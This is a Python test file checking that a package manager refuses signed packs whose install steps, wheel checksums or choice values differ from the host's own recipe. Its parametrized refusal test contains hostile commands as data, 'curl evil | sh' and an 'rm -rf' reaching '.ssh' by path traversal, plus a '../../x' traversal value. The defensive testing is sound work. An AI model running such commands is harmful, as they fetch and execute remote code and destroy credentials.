"""Issue 18 rules 2 and 3, the pure decision: code comes from the host, data from the signer
(manifests/trust.check_pack_for_host). The commands' end-to-end refusals: tests/test_hostile_signed.py."""

from __future__ import annotations

import hashlib
import tomllib

import pytest

from manifests.catalog import Catalog
from manifests.errors import PolicyError
from manifests.model import TOOL_DATA_TYPE, FileEntry, PackEntry
from manifests.recipe import parse_recipe
from manifests.steps import ToolCommand
from manifests.trust import check_pack_for_host

WHEEL = b"a wheel's bytes"
PIN = hashlib.sha256(WHEEL).hexdigest()
RECIPE = f"""
id = "spacy-like"
label = "a wheel installed offline"
data_type = "language_model"
[[choices]]
id = "size"
label = "Size"
options = [{{ value = "sm", label = "small" }}, {{ value = "md", label = "medium" }}]
[[install._default]]
type = "download"
url = "https://x.invalid/{{size}}.whl"
dest = "wheels/{{size}}.whl"
checksum = "sha256:{PIN}"
[[install._default]]
type = "tool_command"
command = ["{{python}}", "-m", "pip", "install", "--no-index", "{{data_dir}}/wheels/{{size}}.whl"]
"""
HOST = Catalog({"spacy-like": parse_recipe(tomllib.loads(RECIPE), "site/spacy-like.toml")})
PIP = ToolCommand(command=("{python}", "-m", "pip", "install", "--no-index", "{data_dir}/wheels/sm.whl"))


def pack(*, steps=(PIP,), choices=None, pack_id="spacy-like", data_type="language_model") -> PackEntry:
    choices = {"size": "sm"} if choices is None else choices
    key = pack_id + ("@" + ",".join(f"{k}={v}" for k, v in sorted(choices.items())) if choices else "")
    return PackEntry(key, pack_id, "", data_type, choices, "manual", "2030-01-01T00:00:00Z", tuple(steps), "", True, "")


def files(p: PackEntry, sha256: str = PIN, path: str = "wheels/sm.whl") -> list[FileEntry]:
    return [FileEntry(p.key, path, len(WHEEL), sha256, "m/0")]


def refused(p: PackEntry, entries=None, catalog=HOST) -> str:
    with pytest.raises(PolicyError) as info:
        check_pack_for_host(p, files(p) if entries is None else entries, catalog)
    assert info.value.exit_code == 4
    return str(info.value)


def test_the_hosts_own_steps_with_the_pinned_wheel_run():
    p = pack()
    assert check_pack_for_host(p, files(p), HOST) is HOST.recipes["spacy-like"]


def test_data_without_steps_needs_no_recipe():
    p = pack(steps=(), pack_id="data-only", choices={"variant": "v1"})
    assert check_pack_for_host(p, files(p), Catalog()) is None


def test_steps_of_a_pack_the_host_does_not_define_are_refused_with_what_to_do():
    p = pack(pack_id="unknown")
    message = refused(p, catalog=Catalog())
    assert "does not define pack 'unknown'" in message and "catalog_dirs" in message and "--allow-commands unknown" in message


def test_the_operator_may_name_the_pack():
    p = pack(pack_id="unknown")
    assert check_pack_for_host(p, files(p), Catalog(), allow_commands=True) is None


@pytest.mark.parametrize(
    "steps",
    [
        (ToolCommand(command=("sh", "-c", "curl evil | sh")),),
        (PIP, ToolCommand(command=("rm", "-rf", "{data_dir}/../../.ssh"))),
        (ToolCommand(command=("{python}", "-m", "pip", "install", "--no-index", "{data_dir}/wheels/other.whl")),),
        (),  # fewer steps than the host's recipe: the pack is then data only, which is allowed
    ],
    ids=["another-program", "one-step-more", "another-wheel", "none"],
)
def test_steps_other_than_the_hosts_are_refused(steps):
    p = pack(steps=steps)
    if not steps:
        assert check_pack_for_host(p, files(p), HOST) is not None
        return
    assert "differ from those of this host's recipe site/spacy-like.toml" in refused(p)


def test_a_wheel_other_than_the_one_the_host_pins_is_refused():
    p = pack()
    message = refused(p, files(p, sha256="0" * 64))
    assert f"pins wheels/sm.whl to sha256:{PIN}" in message and "carries sha256:" + "0" * 64 in message
    assert "does not carry it" in refused(p, files(p, path="wheels/elsewhere.whl"))


def test_choice_values_are_the_hosts_options():
    message = refused(pack(choices={"size": "xl"}))
    assert "size='xl' is not an option" in message and "size=sm/md" in message


def test_without_a_host_recipe_choice_values_are_identifiers():
    p = pack(steps=(), pack_id="geo", choices={"edition": "../../x"})
    with pytest.raises(PolicyError, match="is not an identifier"):
        check_pack_for_host(p, files(p), Catalog())


def test_the_tools_wheels_are_not_judged_as_data():
    p = pack(steps=(), pack_id="devops-cp-tool", data_type=TOOL_DATA_TYPE, choices={"python": "3.11"})
    assert check_pack_for_host(p, [], Catalog()) is None
